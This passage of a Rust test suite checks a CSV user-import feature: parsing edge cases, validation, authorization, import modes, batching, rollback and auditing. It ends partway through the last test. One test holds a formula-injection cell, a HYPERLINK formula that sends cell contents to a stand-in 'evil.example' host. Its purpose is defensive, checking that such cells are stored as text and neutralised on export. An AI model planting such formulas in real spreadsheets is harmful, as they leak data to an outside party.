//! CSV import: the hostile corpus in `tests/fixtures/csv`, each file with the
//! exact per-row result, the three modes, limits and authorization.

use diesel::prelude::*;
use frontdesk_core::authz::{Actor, OrgRole, StaffRole};
use frontdesk_core::imports::{
    self, ImportConfig, ImportError, ImportMode, ImportOptions, ImportReport, Outcome, WelcomeMail,
};
use frontdesk_core::schema::{
    audit_events, memberships, organizations as orgs_t, outbox, users as users_t,
};
use frontdesk_core::users::{self, NewUser};
use frontdesk_core::{organizations, tags};

use crate::both;
use crate::support::TestDb;

pub fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{}/tests/fixtures/csv/{name}", env!("CARGO_MANIFEST_DIR"));
    std::fs::read(&path).unwrap_or_else(|e| panic!("{path}: {e}"))
}

pub fn config() -> ImportConfig {
    ImportConfig {
        profile_fields: vec!["company".into(), "notes".into()],
        ..ImportConfig::default()
    }
}

fn options(mode: ImportMode) -> ImportOptions {
    ImportOptions {
        mode,
        source_name: "test.csv".into(),
        ..ImportOptions::default()
    }
}

fn run_as(
    db: &TestDb,
    actor: &Actor,
    bytes: &[u8],
    opts: &ImportOptions,
    cfg: &ImportConfig,
) -> Result<ImportReport, ImportError> {
    imports::import_bytes(&mut db.conn(), actor, cfg, opts, bytes, &mut |_| {})
}

fn run(db: &TestDb, name: &str, mode: ImportMode) -> Result<ImportReport, ImportError> {
    run_as(
        db,
        &Actor::system(),
        &fixture(name),
        &options(mode),
        &config(),
    )
}

fn ok(r: Result<ImportReport, ImportError>) -> ImportReport {
    r.unwrap_or_else(|e| panic!("import failed: {e}"))
}

/// (row, outcome, code) of every listed row.
fn lines(r: &ImportReport) -> Vec<(u64, Outcome, &'static str)> {
    r.rows.iter().map(|l| (l.row, l.outcome, l.code)).collect()
}

fn reason(r: &ImportReport, row: u64) -> String {
    r.rows
        .iter()
        .find(|l| l.row == row)
        .map(|l| l.reason.clone())
        .unwrap_or_default()
}

fn user_emails(db: &TestDb) -> Vec<String> {
    users_t::table
        .order(users_t::email.asc())
        .select(users_t::email)
        .load(&mut db.conn())
        .expect("emails")
}

fn import_events(db: &TestDb) -> i64 {
    audit_events::table
        .filter(audit_events::action.eq("users.import"))
        .count()
        .get_result(&mut db.conn())
        .expect("count")
}

fn user(db: &TestDb, email: &str) -> users::User {
    users::find_by_email(&mut db.conn(), email)
        .expect("query")
        .unwrap_or_else(|| panic!("{email} missing"))
}

/// Nothing at all was written: no users, no tags, no audit events.
fn assert_nothing_written(db: &TestDb) {
    let mut c = db.conn();
    let n_users: i64 = users_t::table.count().get_result(&mut c).expect("count");
    let n_audit: i64 = audit_events::table
        .filter(audit_events::action.ne("organization.create"))
        .filter(audit_events::action.ne("user.create"))
        .count()
        .get_result(&mut c)
        .expect("count");
    let n_tags = tags::list(&mut c).expect("tags").len();
    assert_eq!(
        (n_users, n_audit, n_tags),
        (0, 0, 0),
        "something was written"
    );
}

both!(bom_crlf_and_quoted_fields_are_read, |db| {
    let r = ok(run(db, "bom_crlf_quoted.csv", ImportMode::Apply));
    assert_eq!(
        (r.total_rows, r.created, r.skipped, r.rejected, r.applied),
        (3, 3, 0, 0, true)
    );
    let ann = user(db, "ann@example.com");
    assert_eq!(ann.first_name, "Ann");
    let p = ann.profile_map();
    assert_eq!(
        p.get("company").and_then(|v| v.as_str()),
        Some("Acme, Inc.")
    );
    assert_eq!(
        p.get("notes").and_then(|v| v.as_str()),
        Some("line one\r\nline two")
    );
    assert_eq!(user(db, "bob@example.com").last_name, "O\"Brien");
    let cleo = user(db, "cleo@example.com");
    assert_eq!(
        cleo.profile_map().get("company").and_then(|v| v.as_str()),
        Some("Quotes \"inside\", commas, too")
    );
    assert_eq!(import_events(db), 1);
});

both!(
    newline_inside_a_name_is_rejected_and_rows_keep_their_numbers,
    |db| {
        let r = ok(run(db, "newline_in_name.csv", ImportMode::Apply));
        assert_eq!(lines(&r), vec![(2, Outcome::Rejected, "invalid_field")]);
        assert_eq!(
            reason(&r, 2),
            "first_name is invalid: contains a line break"
        );
        assert_eq!(user_emails(db), vec!["bob@example.com"]);
    }
);

both!(
    duplicates_in_every_case_variant_report_the_later_rows,
    |db| {
        let dry = ok(run(db, "duplicates.csv", ImportMode::DryRun));
        let dups = vec![
            (3, Outcome::Rejected, "duplicate_in_file"),
            (4, Outcome::Rejected, "duplicate_in_file"),
            (5, Outcome::Rejected, "duplicate_in_file"),
            (7, Outcome::Rejected, "duplicate_in_file"),
        ];
        assert_eq!(lines(&dry), dups);
        assert_eq!(
            reason(&dry, 7),
            "duplicate of row 2 (emails match ignoring case)"
        );
        assert_eq!((dry.created, dry.applied), (2, false));
        assert_nothing_written(db);

        let r = ok(run(db, "duplicates.csv", ImportMode::Apply));
        assert_eq!(lines(&r), dups);
        assert_eq!(user_emails(db), vec!["ann@example.com", "bob@example.com"]);
        assert_eq!(user(db, "ann@example.com").last_name, "One");
    }
);

both!(header_problems_are_one_error_before_any_row, |db| {
    match run(db, "missing_column.csv", ImportMode::Apply) {
        Err(e @ ImportError::MissingColumns(_)) => {
            assert_eq!(
                e.to_string(),
                "row 1 (header): missing required column(s): last_name"
            )
        }
        other => panic!("expected MissingColumns, got {other:?}"),
    }
    match run(db, "extra_column.csv", ImportMode::Apply) {
        Err(ImportError::UnknownColumns { columns, known }) => {
            assert_eq!(columns, vec!["favourite_color"]);
            assert!(known.contains("company"), "{known}");
        }
        other => panic!("expected UnknownColumns, got {other:?}"),
    }
    assert_nothing_written(db);
});

both!(reordered_and_respelled_columns_are_matched, |db| {
    let r = ok(run(db, "reordered_columns.csv", ImportMode::Apply));
    assert_eq!((r.created, r.rejected), (2, 0));
    assert_eq!(r.tags_created, vec!["beta", "vip"]);
    let ann = user(db, "ann@example.com");
    assert_eq!(
        (ann.first_name.as_str(), ann.last_name.as_str()),
        ("Ann", "Lee")
    );
    let names: Vec<String> = tags::tags_of(&mut db.conn(), ann.id)
        .expect("tags")
        .into_iter()
        .map(|t| t.name)
        .collect();
    assert_eq!(names, vec!["beta", "vip"]);
});

both!(wrong_delimiter_names_row_one, |db| {
    for (file, found) in [
        ("semicolon_delimiter.csv", ';'),
        ("tab_delimiter.csv", '\t'),
    ] {
        match run(db, file, ImportMode::Apply) {
            Err(ImportError::WrongDelimiter { row: 1, found: f }) => assert_eq!(f, found),
            other => panic!("{file}: expected WrongDelimiter, got {other:?}"),
        }
    }
    assert_nothing_written(db);
});

both!(latin1_bytes_refuse_the_file_naming_the_row, |db| {
    let e = run(db, "latin1.csv", ImportMode::Apply).expect_err("latin-1 accepted");
    assert!(
        matches!(e, ImportError::NotUtf8 { row: 3, byte: 0xE9 }),
        "{e:?}"
    );
    assert_eq!(
        e.to_string(),
        "row 3: the text is not UTF-8 (byte 0xE9); save the file as \"CSV UTF-8\""
    );
    // Row 2 is valid, but a mis-encoded file is refused whole.
    assert_nothing_written(db);
});

both!(binary_files_are_refused, |db| {
    let e = run(db, "binary.csv", ImportMode::Apply).expect_err("binary accepted");
    assert!(matches!(e, ImportError::Binary { row: 2, .. }), "{e:?}");
    assert_eq!(
        e.to_string(),
        "row 2: binary data (a control byte); this is not a CSV text file"
    );
    let e = run(db, "excel_workbook.csv", ImportMode::Apply).expect_err("zip accepted");
    assert!(e.to_string().contains("Excel"), "{e}");
    assert_nothing_written(db);
});

both!(formula_cells_are_stored_as_text, |db| {
    let r = ok(run(db, "formula_cells.csv", ImportMode::Apply));
    assert_eq!((r.created, r.rejected), (2, 0));
    let ann = user(db, "ann@example.com");
    assert_eq!(ann.first_name, "=HYPERLINK(\"http://evil.example/?x=\"&A1)");
    assert_eq!(ann.last_name, "+1");
    assert_eq!(
        ann.profile_map().get("company").and_then(|v| v.as_str()),
        Some("@SUM(A1:A9)")
    );
    assert_eq!(
        ann.profile_map().get("notes").and_then(|v| v.as_str()),
        Some("-2")
    );
    // A cell neutralised by an export comes back as the original value.
    let bob = user(db, "bob@example.com");
    assert_eq!(
        bob.profile_map().get("company").and_then(|v| v.as_str()),
        Some("+33 1 23 45 67 89")
    );
    assert_eq!(
        bob.profile_map().get("notes").and_then(|v| v.as_str()),
        Some("=already neutralised")
    );
});

both!(overlong_fields_are_rejected_per_row, |db| {
    let r = ok(run(db, "long_fields.csv", ImportMode::Apply));
    assert_eq!(
        lines(&r),
        vec![
            (2, Outcome::Rejected, "invalid_field"),
            (3, Outcome::Rejected, "too_long")
        ]
    );
    assert_eq!(
        reason(&r, 2),
        "first_name is too long (at most 100 characters)"
    );
    assert_eq!(reason(&r, 3), "notes is too long (at most 2000 characters)");
    assert_eq!(user_emails(db), vec!["cleo@example.com"]);
});

both!(empty_file_and_header_only, |db| {
    let e = run(db, "empty.csv", ImportMode::Apply).expect_err("empty accepted");
    assert!(matches!(e, ImportError::Empty), "{e:?}");
    let r = ok(run(db, "header_only.csv", ImportMode::Apply));
    assert_eq!(
        (r.total_rows, r.created, r.skipped, r.rejected, r.rows.len()),
        (0, 0, 0, 0, 0)
    );
    assert!(user_emails(db).is_empty());
});

both!(field_count_mismatch_is_a_row_error, |db| {
    let r = ok(run(db, "field_count.csv", ImportMode::Apply));
    assert_eq!(
        lines(&r),
        vec![
            (3, Outcome::Rejected, "field_count"),
            (4, Outcome::Rejected, "field_count")
        ]
    );
    assert_eq!(user_emails(db), vec!["ann@example.com", "dan@example.com"]);
});

fn seed_orgs(db: &TestDb) -> (i64, i64) {
    let mut c = db.conn();
    let sys = Actor::system();
    let acme = organizations::create(&mut c, &sys, "acme", "Acme", "acme.com").expect("acme");
    let open = organizations::create(&mut c, &sys, "open", "Open", "").expect("open");
    users::create(
        &mut c,
        &sys,
        NewUser {
            email: "existing@example.com".into(),
            ..NewUser::default()
        },
    )
    .expect("existing");
    (acme.id, open.id)
}

fn roles(db: &TestDb, email: &str) -> Vec<(String, String)> {
    let u = user(db, email);
    memberships::table
        .inner_join(orgs_t::table)
        .filter(memberships::user_id.eq(u.id))
        .order(orgs_t::slug.asc())
        .select((orgs_t::slug, memberships::role))
        .load(&mut db.conn())
        .expect("roles")
}

both!(organizations_domains_and_roles_are_checked_per_row, |db| {
    seed_orgs(db);
    let r = ok(run(db, "organizations.csv", ImportMode::Apply));
    assert_eq!(
        lines(&r),
        vec![
            (3, Outcome::Rejected, "domain_not_allowed"),
            (4, Outcome::Rejected, "unknown_organization"),
            (5, Outcome::Rejected, "role_without_organization"),
            (6, Outcome::Rejected, "invalid_role"),
            (8, Outcome::Skipped, "exists"),
        ]
    );
    assert_eq!(
        reason(&r, 3),
        "the email domain other.com is not allowed in organization \"acme\" (allowed: acme.com)"
    );
    assert_eq!(reason(&r, 4), "unknown organization \"nope\"");
    assert_eq!((r.created, r.skipped, r.rejected), (4, 1, 4));
    assert_eq!(
        roles(db, "a@acme.com"),
        vec![("acme".into(), "admin".into())]
    );
    assert_eq!(
        roles(db, "f@example.com"),
        vec![("open".into(), "owner".into())]
    );
    assert_eq!(
        roles(db, "g@acme.com"),
        vec![
            ("acme".into(), "admin".into()),
            ("open".into(), "member".into())
        ]
    );
    assert!(roles(db, "h@example.com").is_empty());
});

both!(
    organization_admins_import_only_into_their_organization,
    |db| {
        let (acme, _) = seed_orgs(db);
        let admin = Actor::user(999, None, vec![(acme, OrgRole::Admin)]);
        let r = ok(run_as(
            db,
            &admin,
            &fixture("organizations.csv"),
            &options(ImportMode::Apply),
            &config(),
        ));
        assert_eq!(
            lines(&r),
            vec![
                (3, Outcome::Rejected, "domain_not_allowed"),
                (4, Outcome::Rejected, "unknown_organization"),
                (5, Outcome::Rejected, "role_without_organization"),
                (6, Outcome::Rejected, "invalid_role"),
                (7, Outcome::Rejected, "unknown_organization"),
                (8, Outcome::Rejected, "unknown_organization"),
                (9, Outcome::Rejected, "unknown_organization"),
                (10, Outcome::Rejected, "organization_required"),
            ]
        );
        assert_eq!(user_emails(db), vec!["a@acme.com", "existing@example.com"]);
        // An organization admin may not grant owner, nor set staff roles.
        let owner_row =
            b"email,first_name,last_name,organization,role\nz@acme.com,Z,Z,acme,owner\n";
        let r = ok(run_as(
            db,
            &admin,
            owner_row,
            &options(ImportMode::Apply),
            &config(),
        ));
        assert_eq!(lines(&r), vec![(2, Outcome::Rejected, "role_not_allowed")]);
        let staff = b"email,first_name,last_name,staff_role\ny@acme.com,Y,Y,owner\n";
        let e = run_as(db, &admin, staff, &options(ImportMode::Apply), &config())
            .expect_err("staff column accepted");
        assert!(matches!(e, ImportError::UnknownColumns { .. }), "{e:?}");
        // A member may not import at all; --org of another organization neither.
        let member = Actor::user(998, None, vec![(acme, OrgRole::Member)]);
        let e = run_as(
            db,
            &member,
            &fixture("mixed_valid_invalid.csv"),
            &options(ImportMode::Apply),
            &config(),
        )
        .expect_err("member");
        assert!(matches!(e, ImportError::Forbidden), "{e:?}");
        let other = ImportOptions {
            default_organization: Some("open".into()),
            ..options(ImportMode::Apply)
        };
        let e = run_as(
            db,
            &admin,
            &fixture("mixed_valid_invalid.csv"),
            &other,
            &config(),
        )
        .expect_err("other org");
        assert!(matches!(e, ImportError::Forbidden), "{e:?}");
        assert_eq!(user_emails(db), vec!["a@acme.com", "existing@example.com"]);
    }
);

both!(default_organization_fills_empty_cells, |db| {
    let (_, open) = seed_orgs(db);
    let opts = ImportOptions {
        default_organization: Some("open".into()),
        ..options(ImportMode::Apply)
    };
    let r = ok(run_as(
        db,
        &Actor::system(),
        &fixture("mixed_valid_invalid.csv"),
        &opts,
        &config(),
    ));
    assert_eq!((r.created, r.rejected), (2, 1));
    assert_eq!(
        roles(db, "ann@example.com"),
        vec![("open".into(), "member".into())]
    );
    let events: Vec<Option<i64>> = audit_events::table
        .filter(audit_events::action.eq("users.import"))
        .select(audit_events::organization_id)
        .load(&mut db.conn())
        .expect("events");
    assert_eq!(events, vec![Some(open)]);
    let missing = ImportOptions {
        default_organization: Some("nope".into()),
        ..options(ImportMode::Apply)
    };
    let e = run_as(
        db,
        &Actor::system(),
        &fixture("mixed_valid_invalid.csv"),
        &missing,
        &config(),
    )
    .expect_err("unknown org");
    assert!(matches!(e, ImportError::UnknownOrganization(_)), "{e:?}");
});

both!(existing_users_are_skipped_in_any_case, |db| {
    seed_orgs(db);
    let file = b"email,first_name,last_name\nEXISTING@Example.com,New,Name\nnew@example.com,N,N\n";
    let r = ok(run_as(
        db,
        &Actor::system(),
        file,
        &options(ImportMode::Apply),
        &config(),
    ));
    assert_eq!(lines(&r), vec![(2, Outcome::Skipped, "exists")]);
    assert_eq!(user(db, "existing@example.com").first_name, "");
    assert_eq!((r.created, r.skipped), (1, 1));
});

both!(
    dry_run_and_strict_write_nothing_default_applies_valid_rows,
    |db| {
        let expected = vec![(3, Outcome::Rejected, "invalid_email")];
        let dry = ok(run(db, "mixed_valid_invalid.csv", ImportMode::DryRun));
        assert_eq!(
            (lines(&dry), dry.created, dry.applied),
            (expected.clone(), 2, false)
        );
        assert_eq!(
            dry.summary(),
            "3 rows: would create 2, skipped 0, rejected 1 (dry run: nothing written)"
        );
        let strict = ok(run(db, "mixed_valid_invalid.csv", ImportMode::Strict));
        assert_eq!((lines(&strict), strict.applied), (expected.clone(), false));
        assert_nothing_written(db);

        let r = ok(run(db, "mixed_valid_invalid.csv", ImportMode::Apply));
        assert_eq!((lines(&r), r.created, r.applied), (expected, 2, true));
        assert_eq!(user_emails(db), vec!["ann@example.com", "bob@example.com"]);
        assert_eq!(import_events(db), 1);

        // Strict on a clean file applies it; existing users are skips, not failures.
        let clean =
            b"email,first_name,last_name\nann@example.com,Ann,Lee\ncleo@example.com,Cleo,Ng\n";
        let r = ok(run_as(
            db,
            &Actor::system(),
            clean,
            &options(ImportMode::Strict),
            &config(),
        ));
        assert_eq!((r.created, r.skipped, r.applied), (1, 1, true));
        assert_eq!(import_events(db), 2);
    }
);

both!(size_and_row_limits_refuse_before_any_work, |db| {
    let few = ImportConfig {
        max_rows: 2,
        ..config()
    };
    let e = run_as(
        db,
        &Actor::system(),
        &fixture("mixed_valid_invalid.csv"),
        &options(ImportMode::Apply),
        &few,
    )
    .expect_err("rows");
    assert!(matches!(e, ImportError::TooManyRows { max: 2 }), "{e:?}");
    let small = ImportConfig {
        max_bytes: 50,
        ..config()
    };
    let e = run_as(
        db,
        &Actor::system(),
        &fixture("mixed_valid_invalid.csv"),
        &options(ImportMode::Apply),
        &small,
    )
    .expect_err("size");
    assert!(
        matches!(e, ImportError::TooLarge { size: 98, max: 50 }),
        "{e:?}"
    );
    assert_nothing_written(db);
});

both!(one_batch_larger_than_a_statement_is_written_whole, |db| {
    // 10,500 rows in one transaction: more than one multi-row insert and more
    // than one email lookup per batch, then the same file again in update mode.
    let (_, open) = seed_orgs(db);
    let body = |first: &str| {
        let mut file = String::from("email,first_name,last_name,organization\n");
        for i in 0..10_500 {
            file.push_str(&format!("bulk{i}@example.com,{first},Number{i},open\n"));
        }
        file
    };
    let cfg = ImportConfig {
        batch_size: 20_000,
        ..config()
    };
    let mut batches = 0;
    let r = imports::import_bytes(
        &mut db.conn(),
        &Actor::system(),
        &cfg,
        &options(ImportMode::Apply),
        body("Bulk").as_bytes(),
        &mut |_| batches += 1,
    )
    .expect("import");
    assert_eq!(
        (r.created, r.skipped, r.rejected, batches),
        (10_500, 0, 0, 1)
    );
    let mut c = db.conn();
    let members: i64 = memberships::table
        .filter(memberships::organization_id.eq(open))
        .count()
        .get_result(&mut *c)
        .expect("count");
    assert_eq!(members, 10_500);
    let search = |c: &mut frontdesk_core::db::DbConnection, term: &str| {
        frontdesk_core::users::query::UserQuery {
            search: Some(term.into()),
            ..Default::default()
        }
        .run(c, &Actor::system())
        .expect("search")
        .items
        .into_iter()
        .map(|u| u.email)
        .collect::<Vec<_>>()
    };
    // The search index covers rows of every insert statement of the batch.
    assert_eq!(search(&mut c, "bulk10499@"), ["bulk10499@example.com"]);
    assert_eq!(search(&mut c, "bulk0@"), ["bulk0@example.com"]);
    assert_eq!(search(&mut c, "bulk4500@"), ["bulk4500@example.com"]);
    drop(c);

    let update = ImportOptions {
        update_existing: true,
        ..options(ImportMode::Apply)
    };
    let r = ok(run_as(
        db,
        &Actor::system(),
        body("Renamed").as_bytes(),
        &update,
        &cfg,
    ));
    assert_eq!((r.created, r.updated, r.skipped), (0, 10_500, 0));
    let renamed: i64 = users_t::table
        .filter(users_t::first_name.eq("Renamed"))
        .count()
        .get_result(&mut *db.conn())
        .expect("count");
    assert_eq!(renamed, 10_500);
    assert_eq!(
        search(&mut db.conn(), "renamed number10499"),
        ["bulk10499@example.com"]
    );
});

both!(batches_and_progress_cover_every_row, |db| {
    let mut file = String::from("email,first_name,last_name\n");
    for i in 0..250 {
        file.push_str(&format!("user{i}@example.com,User,{i}\n"));
    }
    file.push_str("user7@example.com,Again,7\n");
    let cfg = ImportConfig {
        batch_size: 100,
        ..config()
    };
    let mut seen = Vec::new();
    let r = imports::import_bytes(
        &mut db.conn(),
        &Actor::system(),
        &cfg,
        &options(ImportMode::Apply),
        file.as_bytes(),
        &mut |p| seen.push((p.rows_done, p.total_rows)),
    )
    .expect("import");
    assert_eq!((r.created, r.rejected), (250, 1));
    assert_eq!(
        lines(&r),
        vec![(252, Outcome::Rejected, "duplicate_in_file")]
    );
    assert_eq!(
        reason(&r, 252),
        "duplicate of row 9 (emails match ignoring case)"
    );
    assert_eq!(seen.last(), Some(&(251, 251)));
    assert!(seen.len() >= 3, "{seen:?}");
    assert_eq!(user_emails(db).len(), 250);
});

both!(report_is_written_as_csv_with_cells_neutralised, |db| {
    let file = b"email,first_name,last_name\n=cmd,A,B\nok@example.com,A,B\n";
    let r = ok(run_as(
        db,
        &Actor::system(),
        file,
        &options(ImportMode::DryRun),
        &config(),
    ));
    let mut out = Vec::new();
    r.write_csv(&mut out).expect("csv");
    let text = String::from_utf8(out).expect("utf8");
    assert_eq!(
        text,
        "row,email,outcome,code,reason\n2,'=cmd,rejected,invalid_email,\"invalid email address: \"\"=cmd\"\"\"\n"
    );
});

both!(welcome_mails_are_queued_for_created_users, |db| {
    let opts = ImportOptions {
        welcome_mail: Some(WelcomeMail {
            site_name: "Acme".into(),
            set_password_url: "https://app.example/auth/password-reset".into(),
            invitations: None,
        }),
        ..options(ImportMode::Apply)
    };
    let r = ok(run_as(
        db,
        &Actor::system(),
        &fixture("mixed_valid_invalid.csv"),
        &opts,
        &config(),
    ));
    assert_eq!(r.welcome_mails_queued, 2);
    let to: Vec<String> = outbox::table
        .order(outbox::recipient.asc())
        .select(outbox::recipient)
        .load(&mut db.conn())
        .expect("outbox");
    assert_eq!(to, vec!["ann@example.com", "bob@example.com"]);
});

both!(staff_roles_need_a_staff_owner, |db| {
    let file = b"email,first_name,last_name,staff_role\nops@example.com,Op,S,admin\nx@example.com,X,X,boss\n";
    let r = ok(run_as(
        db,
        &Actor::system(),
        file,
        &options(ImportMode::Apply),
        &config(),
    ));
    assert_eq!(
        lines(&r),
        vec![(3, Outcome::Rejected, "invalid_staff_role")]
    );
    assert_eq!(
        user(db, "ops@example.com").staff_role(),
        Some(StaffRole::Admin)
    );
    let staff_admin = Actor::user(5, Some(StaffRole::Admin), vec![]);
    let cols = imports::template_columns(&config(), &staff_admin);
    assert!(!cols.contains(&"staff_role".to_owned()));
    let e = run_as(
        db,
        &staff_admin,
        file,
        &options(ImportMode::Apply),
        &config(),
    )
    .expect_err("staff admin set staff roles");
    assert!(matches!(e, ImportError::UnknownColumns { .. }), "{e:?}");
});

#[test]
fn template_lists_required_optional_and_profile_columns() {
    let csv = imports::template_csv(&config(), &Actor::system());
    assert_eq!(
        csv,
        "email,first_name,last_name,display_name,organization,role,groups,tags,staff_role,company,notes\n"
    );
}

both!(
    a_failing_batch_is_rolled_back_whole_and_the_error_says_how_far_it_got,
    |db| {
        // The database refuses one user in the second batch.
        db.refuse_user("user150@example.com");
        let mut file = String::from("email,first_name,last_name\n");
        for i in 0..250 {
            file.push_str(&format!("user{i}@example.com,User,{i}\n"));
        }
        let cfg = ImportConfig {
            batch_size: 100,
            ..config()
        };
        let e = run_as(
            db,
            &Actor::system(),
            file.as_bytes(),
            &options(ImportMode::Apply),
            &cfg,
        )
        .expect_err("boom");
        match &e {
            ImportError::Stopped {
                committed_rows: 100,
                created: 100,
                ..
            } => {}
            other => panic!("expected Stopped after 100 rows, got {other:?}"),
        }
        assert!(e.to_string().starts_with("the import stopped after row 101 (100 users created and saved in earlier batches): database error"), "{e}");
        let emails = user_emails(db);
        assert_eq!(emails.len(), 100);
        assert!(emails.iter().all(|e| e
            .trim_start_matches("user")
            .trim_end_matches("@example.com")
            .parse::<u32>()
            .is_ok_and(|n| n < 100)));
    }
);

both!(unnamed_trailing_columns_must_stay_empty, |db| {
    let r = ok(run(db, "trailing_commas.csv", ImportMode::Apply));
    assert_eq!(lines(&r), vec![(3, Outcome::Rejected, "unnamed_column")]);
    assert_eq!(
        reason(&r, 3),
        "column 5 has a value but no name in the header"
    );
    assert_eq!(user_emails(db), vec!["ann@example.com"]);
});

both!(
    update_mode_changes_names_and_profile_of_existing_users,
    |db| {
        let (acme, _) = seed_orgs(db);
        let mut c = db.conn();
        let sys = Actor::system();
        let mut staff = NewUser {
            email: "staff@acme.com".into(),
            first_name: "St".into(),
            ..NewUser::default()
        };
        staff.staff_role = Some(StaffRole::Admin);
        users::create(&mut c, &sys, staff).expect("staff");
        let mut member = NewUser {
            email: "m@acme.com".into(),
            first_name: "Old".into(),
            last_name: "Name".into(),
            ..NewUser::default()
        };
        member.organization = Some((acme, OrgRole::Member));
        member.profile =
            serde_json::from_str(r#"{"company":"Old Co","notes":"keep"}"#).expect("json");
        users::create(&mut c, &sys, member).expect("member");
        drop(c);
        let file = b"email,first_name,last_name,company\n\
        M@acme.com,New,,New Co\n\
        existing@example.com,,,\n\
        staff@acme.com,Changed,,\n\
        fresh@acme.com,F,R,\n";
        let update = ImportOptions {
            update_existing: true,
            ..options(ImportMode::DryRun)
        };
        let admin = Actor::user(999, None, vec![(acme, OrgRole::Admin)]);
        let org = ImportOptions {
            default_organization: Some("acme".into()),
            ..update.clone()
        };
        let dry = ok(run_as(db, &admin, file, &org, &config()));
        let expected = vec![
            (2, Outcome::Updated, "updated"),
            (3, Outcome::Rejected, "domain_not_allowed"),
            (4, Outcome::Rejected, "update_not_allowed"),
        ];
        assert_eq!(lines(&dry), expected);
        assert_eq!(dry.summary(), "4 rows: would create 1, would update 1, skipped 0, rejected 2 (dry run: nothing written)");
        assert_eq!(user(db, "m@acme.com").first_name, "Old");

        let apply = ImportOptions {
            mode: ImportMode::Apply,
            ..org
        };
        let r = ok(run_as(db, &admin, file, &apply, &config()));
        assert_eq!(lines(&r), expected);
        let m = user(db, "m@acme.com");
        assert_eq!(
            (m.first_name.as_str(), m.last_name.as_str()),
            ("New", "Name")
        );
        let p = m.profile_map();
        assert_eq!(
            (
                p.get("company").and_then(|v| v.as_str()),
                p.get("notes").and_then(|v| v.as_str())
            ),
            (Some("New Co"), Some("keep"))
        );
        assert_eq!(user(db, "staff@acme.com").first_name, "St");
        // The same file again: nothing left to change.
        let again = ok(run_as(db, &admin, file, &apply, &config()));
        assert_eq!(lines(&again)[0], (2, Outcome::Skipped, "unchanged"));
        assert_eq!(lines(&again)[3], (5, Outcome::Skipped, "unchanged"));
    }
);

/// (target, organization, details) of every `user.create` event, in id order.
fn user_create_events(db: &TestDb) -> Vec<(String, Option<i64>, serde_json::Value)> {
    audit_events::table
        .filter(audit_events::action.eq("user.create"))
        .order(audit_events::id.asc())
        .select((
            audit_events::target,
            audit_events::organization_id,
            audit_events::details,
        ))
        .load::<(String, Option<i64>, String)>(&mut db.conn())
        .expect("events")
        .into_iter()
        .map(|(t, o, d)| (t, o, serde_json::from_str(&d).expect("json")))
        .collect()
}

const UNKNOWN_COLUMNS: &str = "email,favourite_color,first_name,last_name,,Nick Name\n\
ann@example.com,blue,Ann,Lee,,Annie\n\
bob@example.com,green,Bob,Ray,,\n\
cleo@example.com,red,Cleo,Ng,oops,\n";

both!(
    unknown_columns_are_refused_or_ignored_with_a_warning,
    |db| {
        // By default the file is refused, naming the columns.
        match run_as(
            db,
            &Actor::system(),
            UNKNOWN_COLUMNS.as_bytes(),
            &options(ImportMode::Apply),
            &config(),
        ) {
            Err(ImportError::UnknownColumns { columns, .. }) => {
                assert_eq!(columns, vec!["favourite_color", "nick_name"])
            }
            other => panic!("expected UnknownColumns, got {other:?}"),
        }
        assert_nothing_written(db);

        let ignoring = ImportOptions {
            ignore_unknown_columns: true,
            ..options(ImportMode::DryRun)
        };
        let warning = "row 1 (header): unknown columns ignored, their cells were not imported: \
                   favourite_color, nick_name";
        let dry = ok(run_as(
            db,
            &Actor::system(),
            UNKNOWN_COLUMNS.as_bytes(),
            &ignoring,
            &config(),
        ));
        assert_eq!(dry.warnings, vec![warning.to_owned()]);
        assert_nothing_written(db);

        let apply = ImportOptions {
            mode: ImportMode::Apply,
            ..ignoring
        };
        let r = ok(run_as(
            db,
            &Actor::system(),
            UNKNOWN_COLUMNS.as_bytes(),
            &apply,
            &config(),
        ));
        assert_eq!((r.created, r.rejected), (2, 1));
        assert_eq!(r.warnings, vec![warning.to_owned()]);
        // The unnamed column keeps its place among the ignored ones.
        assert_eq!(lines(&r), vec![(4, Outcome::Rejected, "unnamed_column")]);
        assert_eq!(
            reason(&r, 4),
            "column 5 has a value but no name in the header"
        );
        assert_eq!(user_emails(db), vec!["ann@example.com", "bob@example.com"]);
        let ann = user(db, "ann@example.com");
        assert_eq!(
            (ann.first_name.as_str(), ann.last_name.as_str()),
            ("Ann", "Lee")
        );
        assert!(ann.profile_map().is_empty(), "{:?}", ann.profile_map());
        let details: String = audit_events::table
            .filter(audit_events::action.eq("users.import"))
            .select(audit_events::details)
            .first(&mut db.conn())
            .expect("import event");
        let details: serde_json::Value = serde_json::from_str(&details).expect("json");
        assert_eq!(
            details["ignored_columns"],
            serde_json::json!(["favourite_color", "nick_name"])
        );

        // A known column is never ignored: a bad cell in it still rejects the row.
        let known = format!(
            "email,first_name,last_name,company,extra\ndan@example.com,Dan,{},Acme,x\n",
            "x".repeat(101)
        );
        let r = ok(run_as(
            db,
            &Actor::system(),
            known.as_bytes(),
            &apply,
            &config(),
        ));
        assert_eq!((r.created, r.rejected), (0, 1));
        assert!(
            reason(&r, 2).starts_with("last_name is too long"),
            "{}",
            reason(&r, 2)
        );
    }
);

both!(an_import_audits_each_user_it_creates, |db| {
    let sys = Actor::system();
    let org = organizations::create(&mut db.conn(), &sys, "acme", "Acme", "").expect("org");
    let file = "email,first_name,last_name,organization\n\
                ann@example.com,Ann,Lee,acme\n\
                not-an-email,Bad,Row,\n\
                bob@example.com,Bob,Ray,\n";
    let dry = ImportOptions {
        import_id: Some(42),
        ..options(ImportMode::DryRun)
    };
    ok(run_as(db, &sys, file.as_bytes(), &dry, &config()));
    assert!(
        user_create_events(db).is_empty(),
        "a dry run creates nobody"
    );

    let apply = ImportOptions {
        mode: ImportMode::Apply,
        ..dry
    };
    let r = ok(run_as(db, &sys, file.as_bytes(), &apply, &config()));
    assert_eq!((r.created, r.rejected), (2, 1));
    let ann = user(db, "ann@example.com");
    let bob = user(db, "bob@example.com");
    let mut events = user_create_events(db);
    events.sort_by(|a, b| a.0.cmp(&b.0));
    let mut want = vec![
        (
            format!("user:{}", ann.id),
            Some(org.id),
            "ann@example.com",
            2,
        ),
        (format!("user:{}", bob.id), None, "bob@example.com", 4),
    ];
    want.sort_by(|a, b| a.0.cmp(&b.0));
    assert_eq!(events.len(), 2, "{events:?}");
    for ((target, org_id, details), (want_target, want_org, email, row)) in events.iter().zip(&want)
    {
        assert_eq!(target, want_target);
        assert_eq!(org_id, want_org);
        assert_eq!(details["email"], *email);
        assert_eq!(details["via"], "import");
        assert_eq!(details["import"], 42);
        assert_eq!(details["row"], *row);
    }
